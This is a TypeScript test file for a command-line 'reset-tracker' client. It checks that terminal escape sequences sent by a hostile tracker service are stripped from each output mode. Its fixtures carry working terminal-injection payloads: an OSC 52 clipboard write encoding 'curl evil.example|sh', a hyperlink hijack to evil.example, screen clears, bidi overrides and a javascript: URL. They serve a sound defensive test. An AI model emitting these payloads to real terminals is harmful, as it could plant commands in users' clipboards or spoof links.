import { spawn } from 'node:child_process';
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import test from 'ava';
import { runInstalled } from '../helpers/packed-client.js';
import type { Installed } from '../helpers/tracker-command.js';
import { cacheHome, installCommand, removeInstalled, statusLine } from '../helpers/tracker-command.js';
import type { TrackerStandIn } from '../helpers/tracker-stand-in.js';
import { startTrackerStandIn, statusBody, statusEvent } from '../helpers/tracker-stand-in.js';
import { eventually } from '../helpers/wait.js';

/*
 * The installed `reset-tracker` against a hostile (or compromised) service whose titles and URLs
 * carry terminal escapes: a clipboard write (OSC 52), a link that closes the line's own and opens one
 * to evil.example, a CR that overwrites the line, a screen clear, NUL and bidi overrides. Nothing of
 * it reaches the terminal: each of `status-line`, `status`, `status --json` and `watch` prints the
 * text through the one terminal rule (domain/terminal-text.ts), and links only http(s) addresses.
 */

const HOSTILE_TITLE =
  'Limits reset\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007\u001b]0;pwned\u0007\r[fake] all clear\u001b[2J\u009b2J\u202eevil\u2028';
const HOSTILE_URL =
  'https://tracker.test/events/a\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\';

/** What a terminal would act on, besides the line's own colours and http(s) links. */
// eslint-disable-next-line no-control-regex
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;
// eslint-disable-next-line no-control-regex
const OWN_SEQUENCES = /\u001b\[[\d;]*m|\u001b\]8;;(https?:\/\/[\u0021-\u007e]+)?\u001b\\/g;

const hostileReset = { id: 'hostile-reset', title: HOSTILE_TITLE, url: HOSTILE_URL };
const yesterday = () => new Date(Date.now() - 86_400_000).toISOString();

const hostileStatus = statusBody('hostile', hostileReset);

let installed: Installed;
let service: TrackerStandIn;

test.before(async () => {
  [installed, service] = await Promise.all([
    installCommand(),
    startTrackerStandIn({
      status: hostileStatus,
      events: {
        meta: { content_revision: 'hostile'.padEnd(22, 'x') },
        data: [
          {
            id: 'boost',
            kind: 'limit_increase',
            title: HOSTILE_TITLE,
            url: 'https://tracker.test/events/boost',
            announced_at: yesterday(),
          },
          {
            id: 'incident',
            kind: 'incident',
            title: HOSTILE_TITLE,
            url: 'javascript:alert(1)',
            announced_at: yesterday(),
          },
        ],
      },
    }),
  ]);
});

test.after.always(async () => {
  await service?.stop();
  await removeInstalled(installed);
});

test('status-line: only its own colours and http(s) links reach the terminal, never the service’s escapes', async (t) => {
  const home = await cacheHome(installed);
  const env = { ...home.env, RESET_TRACKER_URL: service.url, FORCE_HYPERLINK: '1', FORCE_COLOR: '1' };
  const refreshed = await runInstalled(installed.bin, ['refresh'], { env });
  t.is(refreshed.code, 0, refreshed.stderr);
  const ran = await statusLine(installed, [], env);
  t.is(ran.code, 0);
  const links = [...ran.stdout.matchAll(OWN_SEQUENCES)].map((match) => match[1]).filter(Boolean);
  t.deepEqual(
    links,
    ['https://tracker.test/events/boost'],
    'the reset’s link carried escapes, the incident’s is javascript:',
  );
  const rest = ran.stdout.replace(OWN_SEQUENCES, '');
  t.false(UNSAFE.test(rest), JSON.stringify(rest));
  t.false(rest.includes('\u001b'), JSON.stringify(rest));
  t.regex(rest, /^New reset 40m ago · Limits up · Incident 1d ago\n$/);
});

test('status: the title and address printed with their escapes, CR and bidi controls taken out', async (t) => {
  const ran = await runInstalled(installed.bin, ['status', '--url', service.url], {
    env: { FORCE_COLOR: '0' },
  });
  t.is(ran.code, 0, ran.stderr);
  t.false(UNSAFE.test(ran.stdout), JSON.stringify(ran.stdout));
  t.false(ran.stdout.includes('\u001b'));
  const lines = ran.stdout.split('\n');
  t.regex(
    lines[1] ?? '',
    /^Latest reset: Limits reset\]52;c;.+ \[fake\] all clear\[2J2Jevil {2}\(\d{4}-\d\d-\d\d\)$/,
  );
  t.is(lines[2], '  https://tracker.test/events/a]8;;https://evil.example/\\click]8;;\\');
});

test('status --json: the body parses as the service sent it, with no raw control character', async (t) => {
  const ran = await runInstalled(installed.bin, ['status', '--json', '--url', service.url]);
  t.is(ran.code, 0, ran.stderr);
  t.false(UNSAFE.test(ran.stdout.trimEnd()), JSON.stringify(ran.stdout));
  t.deepEqual(JSON.parse(ran.stdout), hostileStatus);
  t.is(
    (JSON.parse(ran.stdout) as { data: { latest_reset: { title: string } } }).data.latest_reset.title,
    HOSTILE_TITLE,
  );
});

test('watch: a NUL in a new reset’s title neither fails --exec nor repeats “New reset” on every reconnect', async (t) => {
  const calm = { id: 'calm', title: 'Weekly limits reset\u001b[2J', url: 'https://tracker.test/events/calm' };
  const nul = {
    id: 'nul',
    title: 'Five-hour\u0000 limits\r reset\u001b]52;c;eA==\u0007',
    url: 'https://tracker.test/events/nul',
  };
  // Each connection ends after its events: the command reconnects at once (retry: 20 ms).
  const stream = await startTrackerStandIn({
    stream: (response, connection) => {
      response.write('retry: 20\n\n');
      if (connection === 0) response.write(statusEvent('r1', statusBody('r1', calm)));
      response.write(statusEvent('r2', statusBody('r2', nul)));
      response.end();
    },
  });
  t.teardown(() => stream.stop());
  const home = await cacheHome(installed);
  const marker = path.join(home.env.XDG_CACHE_HOME!, 'notified.txt');
  const child = spawn(
    installed.bin,
    [
      'watch',
      '--url',
      stream.url,
      '--exec',
      `printf '%s|%s' "$RESET_TRACKER_EVENT_ID" "$RESET_TRACKER_EVENT_TITLE" >> '${marker}'`,
    ],
    { env: { PATH: `${path.dirname(process.execPath)}:${process.env.PATH ?? ''}`, ...home.env } },
  );
  t.teardown(() => child.kill());
  let output = '';
  let errors = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => (output += chunk));
  child.stderr.setEncoding('utf8').on('data', (chunk: string) => (errors += chunk));
  t.true(await eventually(() => stream.connections() >= 4, { timeout: 15_000 }), errors);
  t.true(await eventually(async () => (await readFile(marker, 'utf8').catch(() => '')) !== ''));
  child.kill();
  t.false(UNSAFE.test(output), JSON.stringify(output));
  const lines = output.trimEnd().split('\n');
  t.is(lines[0], `Watching ${stream.url} (latest reset: Weekly limits reset[2J)`);
  t.deepEqual(lines.slice(1), [
    'New reset: Five-hour limits  reset]52;c;eA== https://tracker.test/events/nul',
  ]);
  t.is(await readFile(marker, 'utf8'), 'nul|Five-hour limits  reset]52;c;eA==');
  t.false(errors.includes('--exec failed'), errors);
});
